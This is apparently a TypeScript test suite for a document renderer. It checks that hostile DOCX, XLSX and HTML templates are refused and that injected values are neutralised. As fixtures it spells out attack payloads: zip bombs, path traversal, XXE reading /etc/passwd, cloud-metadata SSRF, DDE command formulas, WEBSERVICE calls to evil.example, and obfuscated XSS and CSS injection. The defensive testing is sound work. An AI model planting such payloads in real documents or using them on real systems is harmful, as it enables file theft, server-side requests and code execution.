import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DocumentRenderer, TemplateLocale } from '../../kernel/ports/document-renderer.js';
import { buildArchive, buildDocx, docxParagraph, type ArchivePart } from './office/build-archive-for-tests.js';
import { openDocumentRenderer } from './open-document-renderer.js';

const locale: TemplateLocale = { timeZone: 'Europe/Moscow', dateFormat: 'DD.MM.YYYY', currencyCode: 'RUB' };
const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const harmless = docxParagraph('Заявка {{procurement.number}}');

let renderer: DocumentRenderer;

beforeAll(() => {
  renderer = openDocumentRenderer({ workers: 1, timeoutMs: 20_000, memoryLimitMb: 256 });
});

afterAll(() => renderer.close());

const allowedFormulas = [
  'SUM(A1:A9)*1.2',
  'IF(SUMIFS(B:B,A:A,"x|y!")&gt;0,_xlfn.XLOOKUP(A1,Table1[Код],Table1[[#All],[Цена]]),"IMAGE(")',
  "'Лист 1 (копия)'!A1+ROUND(B2,2)",
  "SUM('Лист 1:Лист 3'!A1)",
];

function externalRelationship(type: string, target: string): Readonly<Record<string, string>> {
  return {
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${relationships}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  };
}

function withPart(
  name: string,
  content: string | Uint8Array,
  lie: { readonly declaredSize?: number } = {},
): Uint8Array {
  return buildArchive([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: `<w:document>${harmless}</w:document>` },
    { name, content, ...lie },
  ]);
}

const zeros = new Uint8Array(20 * 1024 * 1024);

describe('a hostile DOCX template is refused', () => {
  it.each<readonly [string, string, () => Uint8Array]>([
    ['a zip bomb that says how large it is', 'archive_too_large', () => withPart('word/media/image1.png', zeros)],
    [
      'a zip bomb that lies about its size',
      'archive_invalid',
      () => withPart('word/media/image1.png', zeros, { declaredSize: 1000 }),
    ],
    [
      'an archive whose parts share their bytes',
      'archive_invalid',
      () =>
        buildArchive([
          { name: '[Content_Types].xml', content: '<Types/>' },
          { name: 'word/document.xml', content: '<Types/>', sharesFirst: true },
        ]),
    ],
    [
      'an archive of very many parts',
      'archive_too_large',
      () => buildArchive(Array.from({ length: 2_001 }, (_, index) => ({ name: `p${index}`, content: '' }))),
    ],
    [
      'an encrypted archive',
      'archive_invalid',
      () => buildArchive([{ name: 'word/document.xml', content: '', encrypted: true }]),
    ],
    ['a path that climbs out', 'path_traversal', () => withPart('word/../../etc/passwd', 'x')],
    ['an absolute path', 'path_traversal', () => withPart('/etc/cron.d/x', 'x')],
    ['a path with a drive', 'path_traversal', () => withPart('C:\\windows\\x', 'x')],
    ['a part that is there twice', 'archive_invalid', () => withPart('word/DOCUMENT.xml', 'x')],
    ['a macro', 'macros', () => buildDocx(harmless, { 'word/vbaProject.bin': 'x' })],
    ['an embedded object', 'macros', () => buildDocx(harmless, { 'word/embeddings/oleObject1.bin': 'x' })],
    ['an ActiveX control', 'macros', () => buildDocx(harmless, { 'word/activeX/activeX1.xml': '<x/>' })],
    [
      'an external entity',
      'external_entity',
      () =>
        buildDocx(harmless, { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }),
    ],
    [
      'entities that multiply',
      'external_entity',
      () =>
        buildDocx(harmless, { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>' }),
    ],
    [
      'text in an encoding that hides what it says',
      'archive_invalid',
      () => buildDocx(harmless, { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
    ],
    [
      'a template attached from elsewhere',
      'external_reference',
      () => buildDocx(harmless, externalRelationship('attachedTemplate', 'https://evil.example/t.dotm')),
    ],
    [
      'a picture from elsewhere',
      'external_reference',
      () => buildDocx(harmless, externalRelationship('image', 'http://169.254.169.254/latest')),
    ],
    [
      'a link that runs a script',
      'external_reference',
      () => buildDocx(harmless, externalRelationship('hyperlink', 'javascript:alert(1)')),
    ],
    [
      'a field that loads a file',
      'external_reference',
      () =>
        buildDocx(
          '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "/etc/passwd"</w:instrText></w:r></w:p>',
        ),
    ],
    [
      'a link whose mode is spelled with references',
      'external_reference',
      () =>
        buildDocx(harmless, {
          'word/_rels/document.xml.rels': `<q:Relationships xmlns:q="x"><q:Relationship Id="rId9" Type="${relationships}/image" Target="h&#116;tp&#58;//evil.example/x" TargetMode="Ext&#101;rnal"/></q:Relationships>`,
        }),
    ],
    [
      'a field under another prefix, hidden as character data',
      'external_reference',
      () => buildDocx('<w:p><q:instrText><![CDATA[INCLUDETEXT "/etc/passwd"]]></q:instrText></w:p>'),
    ],
    [
      'a link whose address stands behind a switch',
      'external_reference',
      () => buildDocx('<w:p><w:instrText>HYPERLINK \\h "\\\\evil\\share\\x.docx"</w:instrText></w:p>'),
    ],
    [
      'a link whose address stands behind a frame',
      'external_reference',
      () => buildDocx('<w:p><w:instrText>HYPERLINK \\t "_blank" "file:///etc/passwd"</w:instrText></w:p>'),
    ],
    [
      'a field that stands right behind another',
      'external_reference',
      () =>
        buildDocx(
          '<w:p><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>INCLUDETEXT "x"</w:instrText></w:p>',
        ),
    ],
    [
      'a field in small letters',
      'external_reference',
      () => buildDocx('<w:p><w:instrText>includetext "x"</w:instrText></w:p>'),
    ],
    [
      'a field in a field that makes up its name',
      'external_reference',
      () =>
        buildDocx(
          '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>TEXT "x"</w:instrText><w:fldChar w:fldCharType="end"/></w:p>',
        ),
    ],
    [
      'a link field to a file share',
      'external_reference',
      () => buildDocx('<w:p><w:fldSimple w:instr="HYPERLINK &quot;\\\\evil\\share&quot;"/></w:p>'),
    ],
    ...(
      [
        ['that loads its image', '<v:shape><v:imagedata src="http://evil.example/x.png"/></v:shape>'],
        ['that loads its image by another name', '<v:imagedata r:id="rId1" o:href="http://evil.example/x.png"/>'],
        ['that is filled from elsewhere', '<v:rect><v:fill src="\\\\evil\\share\\x.png" type="frame"/></v:rect>'],
        ['whose filling is named elsewhere', '<v:fill o:href="http://evil.example/x.png"/>'],
        ['that runs a script', '<v:shape href="javascript:alert(1)"/>'],
      ] as const
    ).map(
      ([what, shape]) =>
        [
          `a drawing ${what}`,
          'external_reference',
          () => buildDocx(`<w:p xmlns:v="v" xmlns:o="o"><w:r><w:pict>${shape}</w:pict></w:r></w:p>`),
        ] as const,
    ),
    [
      'a picture on a share, named without a scheme',
      'external_reference',
      () =>
        buildDocx(harmless, {
          'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId9" Type="${relationships}/image" Target="//evil.example/share/x.png"/></Relationships>`,
        }),
    ],
    ['a document that is to be pasted in', 'external_reference', () => buildDocx('<w:altChunk r:id="rId7"/>')],
    [
      'a chunk that a relationship names',
      'external_reference',
      () =>
        buildDocx(harmless, {
          'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId7" Type="${relationships}/aFChunk" Target="theme/theme1.xml"/></Relationships>`,
        }),
    ],
    [
      'a source of mail merge',
      'external_reference',
      () =>
        buildDocx(harmless, {
          'word/settings.xml': '<w:settings><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
        }),
    ],
    ['a macro under another name', 'active_content', () => buildDocx(harmless, { 'word/picture.bin': 'x' })],
    [
      'a macro that calls itself a picture',
      'macros',
      () =>
        buildDocx(harmless, {
          '[Content_Types].xml':
            '<Types><Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
          'word/media/image1.png': 'x',
        }),
    ],
    [
      'a part that is not well-formed',
      'archive_invalid',
      () => buildDocx(harmless, { 'word/styles.xml': '<a><b></a>' }),
    ],
    ['an archive that is cut off', 'archive_invalid', () => buildDocx(harmless).slice(0, -30)],
    ['elements nested without end', 'too_deep', () => buildDocx(`${'<w:p>'.repeat(5_000)}x${'</w:p>'.repeat(5_000)}`)],
    [
      'sections nested without end',
      'too_deep',
      () => buildDocx(docxParagraph(`${'{{#items}}'.repeat(60)}x${'{{/items}}'.repeat(60)}`)),
    ],
    ['something that is no archive', 'archive_invalid', () => new TextEncoder().encode('PK, but not really')],
    ['an archive that is no document', 'archive_invalid', () => buildArchive([{ name: 'readme.txt', content: 'x' }])],
  ])('%s (%s)', async (_, reason, build) => {
    const template = { format: 'docx', content: build() } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({
      code: 'template_error',
      reason,
    });
  });

  it.each<readonly [string, string, string]>([
    ['tags that never end', 'archive_invalid', '<w:p '.repeat(200_000)],
    ['attributes without number', 'archive_invalid', `<w:p ${'a="" '.repeat(200_000)}/>`],
    ['a tag of spaces', 'syntax', docxParagraph(`{{#${' '.repeat(30_000)}`)],
    ['a name of spaces', 'syntax', docxParagraph(`{{#${' '.repeat(30_000)}}}`)],
  ])('%s, and in time', async (_, reason, body) => {
    const started = performance.now();
    const template = { format: 'docx', content: buildDocx(body) } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({ reason });

    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('a list nested in itself, which would multiply without end', async () => {
    const items = Array.from({ length: 300 }, (_, index) => ({ name: String(index) }));
    const template = {
      format: 'docx',
      content: buildDocx(docxParagraph(`${'{{#items}}'.repeat(6)}x${'{{/items}}'.repeat(6)}`)),
    } as const;

    const rendering = renderer.renderTemplate({ template, values: { items }, output: 'docx', locale });

    await expect(rendering).rejects.toMatchObject({ code: 'template_error', reason: 'too_large' });
  });

  it('and the renderer goes on to serve the next', async () => {
    const template = { format: 'docx', content: buildDocx(harmless) } as const;

    const rendering = renderer.renderTemplate({
      template,
      values: { procurement: { number: 'PR-1' } },
      output: 'docx',
      locale,
    });

    expect((await rendering).unknownVariables).toEqual([]);
  });
});

/** A workbook of one sheet, with parts added to it. */
function workbook(sheet: string, parts: readonly ArchivePart[] = []): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return buildArchive([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'xl/workbook.xml', content: `<workbook xmlns="${main}"/>` },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<worksheet xmlns="${main}"><sheetData><row r="1">${sheet}</row></sheetData></worksheet>`,
    },
    ...parts,
  ]);
}

const text = (content: string) => `<c r="A1" t="inlineStr"><is><t>${content}</t></is></c>`;

describe('a hostile XLSX template is refused', () => {
  it.each<readonly [string, string, Uint8Array]>([
    ['a zip bomb', 'archive_too_large', workbook(text('x'), [{ name: 'xl/media/image1.png', content: zeros }])],
    [
      'a zip bomb that lies about its size',
      'archive_invalid',
      workbook(text('x'), [{ name: 'xl/media/image1.png', content: zeros, declaredSize: 1000 }]),
    ],
    ['a path that climbs out', 'path_traversal', workbook(text('x'), [{ name: 'xl/../../etc/passwd', content: 'x' }])],
    ['a macro', 'macros', workbook(text('x'), [{ name: 'xl/vbaProject.bin', content: 'x' }])],
    ['a macro sheet of old', 'macros', workbook(text('x'), [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }])],
    [
      'an external entity',
      'external_entity',
      workbook(text('x'), [
        { name: 'xl/styles.xml', content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
      ]),
    ],
    [
      'another workbook that is linked',
      'external_reference',
      workbook(text('x'), [{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }]),
    ],
    ['a data connection', 'external_reference', workbook(text('x'), [{ name: 'xl/connections.xml', content: '<x/>' }])],
    [
      'a formula that asks a server',
      'external_reference',
      workbook('<c r="A1"><f>WEBSERVICE("https://evil.example")</f></c>'),
    ],
    ['a formula that starts a program', 'external_reference', workbook('<c r="A1"><f>cmd|\'/c calc\'!A0</f></c>')],
    [
      'a picture that a formula loads',
      'external_reference',
      workbook('<c r="A1"><f>IMAGE("https://evil.example/x.png")</f></c>'),
    ],
    [
      'a picture that a formula of the newest loads',
      'external_reference',
      workbook('<c r="A1"><f>_xlfn.IMAGE("https://evil.example/x.png")</f></c>'),
    ],
    [
      'a name that starts a program',
      'external_reference',
      buildArchive([
        { name: '[Content_Types].xml', content: '<Types/>' },
        {
          name: 'xl/workbook.xml',
          content:
            '<workbook><definedNames><definedName name="x">cmd|\'/c calc\'!A0</definedName></definedNames></workbook>',
        },
      ]),
    ],
    [
      'a rule that asks a server',
      'external_reference',
      workbook('<c r="A1"><formula1>WEBSERVICE("https://evil.example")</formula1></c>'),
    ],
    ['a reference to another workbook', 'external_reference', workbook('<c r="A1"><f>[1]Sheet1!$A$1+1</f></c>')],
    [
      'a reference to a workbook on a share',
      'external_reference',
      workbook('<c r="A1"><f>\'\\\\evil\\share[x.xlsx]S\'!A1</f></c>'),
    ],
    [
      'a link to a share',
      'external_reference',
      workbook(`${text('x')}<hyperlink ref="A1" location="\\\\evil\\share\\x.xlsx"/>`),
    ],
    [
      'a drawing of old that loads its picture',
      'external_reference',
      workbook(text('x'), [
        { name: 'xl/drawings/vmlDrawing1.vml', content: '<xml><v:imagedata src="http://evil.example/x.png"></xml>' },
      ]),
    ],
    [
      'a formula whose name is spelled with references',
      'external_reference',
      workbook('<c r="A1"><f>WEBSERV&#73;CE("https://evil.example")</f></c>'),
    ],
    [
      'sections nested without end',
      'too_deep',
      workbook(text('{{#items}}'.repeat(60) + 'x' + '{{/items}}'.repeat(60))),
    ],
  ])('%s (%s)', async (_, reason, content) => {
    const template = { format: 'xlsx', content } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({
      code: 'template_error',
      reason,
    });
  });

  it('a tag of spaces without end, and in time', async () => {
    const started = performance.now();
    const template = { format: 'xlsx', content: workbook(text(`{{#${' '.repeat(30_000)}`)) } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({ reason: 'syntax' });

    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('rows that multiply without end', async () => {
    const items = Array.from({ length: 300 }, (_, index) => ({ name: String(index) }));
    const template = {
      format: 'xlsx',
      content: workbook(text('{{#items}}'.repeat(6) + '{{name}}' + '{{/items}}'.repeat(6))),
    } as const;

    const rendering = renderer.renderTemplate({ template, values: { items }, output: 'xlsx', locale });

    await expect(rendering).rejects.toMatchObject({ code: 'template_error', reason: 'too_large' });
  });
});

describe('an ordinary workbook or document', () => {
  it.each(allowedFormulas)('may compute %s', async (formula) => {
    const template = { format: 'xlsx', content: workbook(`<c r="A1"><f>${formula}</f></c>`) } as const;

    expect(await renderer.inspectTemplate({ template, knownPaths: [] })).toMatchObject({ usedVariables: [] });
  });

  it.each([
    'PAGE \\* MERGEFORMAT',
    ' NUMPAGES ',
    'DATE \\@ "dd.MM.yyyy"',
    'HYPERLINK "https://example.com/a"',
    'HYPERLINK \\l "part" \\o "file: more"',
    'HYPERLINK "https://example.com/a" \\l "part" \\h',
    '= 1 + 2',
  ])('may have the field %s', async (code) => {
    const body = `<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>${code.replaceAll('"', '&quot;')}</w:instrText><w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/></w:p>`;
    const template = { format: 'docx', content: buildDocx(body) } as const;

    expect(await renderer.inspectTemplate({ template, knownPaths: [] })).toMatchObject({ usedVariables: [] });
  });
});

describe('a hostile HTML template is refused', () => {
  it.each([
    ['a script', '<p>x</p><script>fetch("/")</script>', 'active_content'],
    ['a handler', '<img src="data:image/png;base64,AAAA" onerror="x()">', 'active_content'],
    ['a frame', '<iframe src="https://evil.example"></iframe>', 'active_content'],
    ['a hidden script address', '<a href="java&#115;cript&colon;alert(1)">x</a>', 'active_content'],
    ['a picture from a file', '<img src="file:///etc/passwd">', 'external_reference'],
    ['a picture from elsewhere', '<img src=http://169.254.169.254/x>', 'external_reference'],
    ['a style from elsewhere', '<style>@import "https://evil.example/x.css"</style>', 'external_reference'],
    ['a picture of old from elsewhere', '<img lowsrc="https://evil.example/x.png">', 'external_reference'],
    ['a film of old from elsewhere', '<img dynsrc="https://evil.example/x.avi">', 'external_reference'],
    ['a quotation from elsewhere', '<blockquote cite="https://evil.example/x">x</blockquote>', 'external_reference'],
    ['somebody who counts pictures', '<img attributionsrc="https://evil.example/x">', 'external_reference'],
    [
      'a page that leads elsewhere by itself',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      'active_content',
    ],
    ['a background from elsewhere', '<p style="background:url(//evil.example/x)">x</p>', 'external_reference'],
    ['a script behind a comment that is over at once', '<!--><script>x()</script>-->', 'active_content'],
    ['a script behind a comment that ends oddly', '<!-- --!><script>x()</script>-->', 'active_content'],
    ['a handler whose tag holds quotes', '<p title="><script>" onclick=x()>x</p>', 'active_content'],
    ['a handler on a second body', '<body><p>x</p><body onload=x()>', 'active_content'],
    ['a drawing', '<table><svg onload=x()></svg></table>', 'active_content'],
    [
      'a style whose words are spelled with escapes',
      '<p style="background:\\75rl(//evil.example/x)">x</p>',
      'external_reference',
    ],
    [
      'a picture that a style names without an address',
      '<style>p{background:image-set("//evil.example/x" 1x)}</style>',
      'external_reference',
    ],
    [
      'a style between what looks like a comment',
      '<style>a{b:"/*"}c{background:url(//evil.example)}d{e:"*/"}</style>',
      'external_reference',
    ],
    [
      'a style between what escapes make look like one',
      '<p style="\\2f* background:url(//evil.example) *\\2f">x</p>',
      'external_reference',
    ],
    [
      'a style whose escape ends with a line',
      '<p style="background:i\\6d\nage-set(\'//evil.example\' 1x)">x</p>',
      'external_reference',
    ],
    [
      'a picture that is faded in',
      '<p style="background:cross-fade(\'//evil.example/x\', red)">x</p>',
      'external_reference',
    ],
    ['a font from elsewhere', '<style>@font-face{font-family:x;src:local(x)}</style>', 'external_reference'],
    ['an element that no page of print has', '<dialog open>x</dialog>', 'active_content'],
    ['a comment that is not closed', '<p>x</p><!-- x', 'syntax'],
    ['a style that is not closed', '<style>p{}', 'syntax'],
    ['a processing instruction', '<?php echo 1 ?><p>x</p>', 'syntax'],
    ['a tag that is not closed', '<p title="x', 'syntax'],
    ['elements nested without end', '<div>'.repeat(10_000), 'too_deep'],
    ['sections nested without end', '{{#a}}'.repeat(500), 'too_deep'],
    ['more than half a megabyte', 'x'.repeat(600_000), 'too_large'],
  ])('%s', async (_, html, reason) => {
    const template = { format: 'html', content: new TextEncoder().encode(html) } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({
      code: 'template_error',
      reason,
    });
  });

  it('markup that is another one to those who guess its encoding', async () => {
    const hidden = '<p title="\x1b$B">x</p><p title="\x1b(B><img src=x onerror=x()>">y</p>';
    const template = { format: 'html', content: new TextEncoder().encode(hidden) } as const;

    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({
      reason: 'active_content',
    });
  });
});

describe('a value in an HTML template', () => {
  const render = (html: string, values: object) =>
    renderer.renderTemplate({
      template: { format: 'html', content: new TextEncoder().encode(html) },
      values: { ...values },
      output: 'html',
      locale,
    });

  it.each([
    ['<a href="{{a}}">x</a>', { a: 'javascript:alert(1)' }, 'active_content'],
    ['<a href="{{a}}">x</a>', { a: 'javascript:alert(1)//{{' }, 'active_content'],
    ['<a href="{{a}}">x</a>', { a: ' JaVa\tScRiPt:alert(1)' }, 'active_content'],
    ['<a href="{{a}}">x</a>', { a: 'data:text/html,<script>x()</script>' }, 'active_content'],
    ['<a href="{{a}}">x</a>', { a: '//evil.example' }, 'active_content'],
    ['<a href="{{a}}{{b}}">x</a>', { a: 'java', b: 'script:alert(1)' }, 'active_content'],
    ['<a href={{a}}>x</a>', { a: 'https://a.example onmouseover=x()' }, 'active_content'],
    ['<p title={{a}}>x</p>', { a: 'x style=background:url(//evil.example)' }, 'external_reference'],
    [
      '<meta http-equiv="content-type" content="{{a}}" {{b}}>',
      { a: '0', b: 'http-equiv=refresh onload=x()' },
      'active_content',
    ],
    ['<p style="color:{{a}}">x</p>', { a: 'red;background:url(//evil.example)' }, 'external_reference'],
    ['<p style="color:{{a}}">x</p>', { a: 'red;background:\\75rl(//evil.example)' }, 'external_reference'],
    [
      '<style>p::before{content:"{{a}}{{b}}"}</style>',
      { a: '\\', b: ';background:url(//evil.example)' },
      'external_reference',
    ],
    ['<style>p::before{content:"{{a}}"}</style>', { a: '\n}@import "//evil.example";' }, 'external_reference'],
    ['<style>{{a}}</style>', { a: '@font-face{font-family:x;src:local(x)}' }, 'external_reference'],
  ])('makes %s do nothing, as %j', async (html, values, reason) => {
    await expect(render(html, values)).rejects.toMatchObject({ code: 'template_error', reason });
  });

  it.each([
    '<p title="{{a}}">{{a}}</p>',
    '<a href="https://a.example/{{a}}">x</a>',
    '<a href="mailto:{{a}}">x</a>',
    '<meta name="author" content="{{a}}">',
    '<style>/* {{a}} */ p::before{content:"{{a}}"}</style>',
  ])('ends no attribute and no element of %s', async (html) => {
    const { bytes } = await render(html, { a: `"'></style></p><script>x</script><img src=x onerror=x>` });

    expect(new TextDecoder().decode(bytes)).not.toMatch(/<(?:script|img)/);
  });
});

it('opens no connection for a template that names an address', async () => {
  let requests = 0;
  const server = createServer((_, response) => {
    requests += 1;
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/x.png`;
  const docx = { format: 'docx', content: buildDocx(docxParagraph(`${url} {{link}}`)) } as const;
  const html = {
    format: 'html',
    content: new TextEncoder().encode(`<p>${url} {{link}}</p><a href="${url}">x</a>`),
  } as const;

  for (const template of [docx, html])
    await renderer.renderTemplate({ template, values: { link: url }, output: 'pdf', locale });

  await new Promise((resolve) => server.close(resolve));
  expect(requests).toBe(0);
});
